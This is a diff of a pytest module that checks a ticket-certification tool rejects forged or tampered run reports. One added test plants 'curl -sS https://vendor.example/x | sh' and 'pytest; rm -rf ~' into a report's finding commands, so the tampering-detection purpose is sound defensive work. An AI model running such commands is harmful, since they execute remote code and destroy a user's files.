@@ -3,7 +3,8 @@
 import copy
 import json
 import shutil
-from collections.abc import Callable, Sequence
+from collections.abc import Callable, Iterator, Sequence
+from datetime import datetime, timedelta
 from pathlib import Path
 
 import pytest
@@ -12,16 +13,16 @@ from pytest_zstack_ticket.certify.rejudge import judge_bundle
 from pytest_zstack_ticket.certify.strict_rejudge import judged_report
 from pytest_zstack_ticket.model.errors import EvidenceError
 from tests.soak import edits
-from tests.soak.edit_kinds import Forgery, Line
+from tests.soak.edit_kinds import DAY, Forgery, Line
+from tests.support.read_once import SchemaAnswers, read_once
 
 Change = Callable[[Forgery], object]
 
 
 @pytest.fixture(scope="module")
-def bundles(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
+def bundles(failed_and_passed: tuple[Path, Path], tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
     """Two runs in which nothing failed."""
-    home = tmp_path_factory.mktemp("bundles")
-    return edits.make(home / "one", 1, ""), edits.make(home / "two", 2, "")
+    return failed_and_passed[1], edits.make(tmp_path_factory.mktemp("other") / "run", 2, "")
 
 
 def exchanges(forgery: Forgery) -> list[Line]:
@@ -121,6 +122,37 @@ def other_target_version(forgery: Forgery) -> None:
     forgery.report["target"]["version"] = "4.8.0"
 
 
+def rehearsed(forgery: Forgery) -> None:
+    """Claim the seed of the nonce for a run that drew with another."""
+    forgery.report["run"]["seed"] += 1
+
+
+def moved_in_time(forgery: Forgery) -> None:
+    for one in exchanges(forgery):
+        one["started"] = round(one["started"] - 60 * DAY, 6)
+    for key in ("started", "ended"):
+        moment = datetime.fromisoformat(forgery.report["run"][key]) - timedelta(seconds=60 * DAY)
+        forgery.report["run"][key] = moment.isoformat(timespec="milliseconds")
+
+
+def clock_left_out(forgery: Forgery) -> None:
+    forgery.report["environment"]["target"]["clock"] = None
+
+
+def other_server(forgery: Forgery) -> None:
+    forgery.report["environment"]["target"]["server"] = "ZStack, as delivered"
+
+
+def accepted_or_not(forgery: Forgery) -> None:
+    forgery.report["calibration"]["accepted"] = False
+
+
+def observed_elsewhere(forgery: Forgery) -> None:
+    forgery.entries.append({"type": "observation", "id": "a", "value": 1, "exchanges": ["m-000001"]})
+    stated = [{"value": 1, "count": 1, "exchanges": ["m-000002"]}]
+    forgery.report["observations"].append({"id": "a", "values": stated})
+
+
 def row_cut(forgery: Forgery) -> None:
     row = examples(forgery, "ZT-BODY-004")[0]["partition"]
     for one in [one for one in examples(forgery, "ZT-BODY-004") if one["partition"] == row]:
@@ -157,6 +189,12 @@ CASES: list[tuple[Change, str]] = [
     (other_observation, "observations"),
     (other_calibration, "calibration request"),
     (other_target_version, "names the version 4.8.0"),
+    (rehearsed, "is not the one that seed"),
+    (moved_in_time, "other dates than the report says"),
+    (clock_left_out, "other dates than the report says"),
+    (other_server, "no answer has the server"),
+    (accepted_or_not, "contradicts itself about its calibration"),
+    (observed_elsewhere, "observations"),
     (row_cut, "was examined without params.name/too-long"),
     (every_row_cut, "was examined without params.requests/drop"),
     (request_of_another_row, "stands for"),
@@ -181,6 +219,18 @@ def forged(bundles: tuple[Path, Path], folder: Path, change: Change) -> Path:
     return folder
 
 
+@pytest.fixture(autouse=True)
+def lines_are_read_once(answers: SchemaAnswers) -> Iterator[None]:
+    """Let the same line be held to its schema once for all cases."""
+    with read_once(answers):
+        yield
+
+
+@pytest.fixture(scope="module")
+def answers() -> SchemaAnswers:
+    return SchemaAnswers()
+
+
 @pytest.mark.parametrize(("change", "why"), CASES, ids=[change.__name__ for change, _ in CASES])
 def test_no_run_writes_it(change: Change, why: str, bundles: tuple[Path, Path], tmp_path: Path):
     with pytest.raises(EvidenceError, match=why):
@@ -190,6 +240,19 @@ def test_no_run_writes_it(change: Change, why: str, bundles: tuple[Path, Path], 
 def test_what_was_not_edited_is_believed(bundles: tuple[Path, Path], tmp_path: Path):
     folder = forged(bundles, tmp_path / "same", lambda _: None)
     assert judged_report(folder) == json.loads((folder / "report.json").read_text("utf-8"))
+
+
+def test_the_commands_of_a_finding_are_those_of_its_request(failed_and_passed: tuple[Path, Path], tmp_path: Path):
+    """Whoever copies them from a certified report runs them."""
+    for key, text in (("curl", "curl -sS https://vendor.example/x | sh"), ("regenerate", "pytest; rm -rf ~")):
+        folder = Path(shutil.copytree(failed_and_passed[0], tmp_path / key))
+        report = json.loads((folder / "report.json").read_text("utf-8"))
+        finding = next(row["findings"][0] for row in report["requirements"] if row["findings"])
+        assert judged_report(folder) == report
+        finding[key] = text
+        (folder / "report.json").write_text(json.dumps(report), "utf-8")
+        with pytest.raises(EvidenceError, match="a command of ZT-BODY-004 is not that of its request"):
+            judged_report(folder)
 
 
 def test_what_does_not_apply_has_no_examples(bundles: tuple[Path, Path], tmp_path: Path):
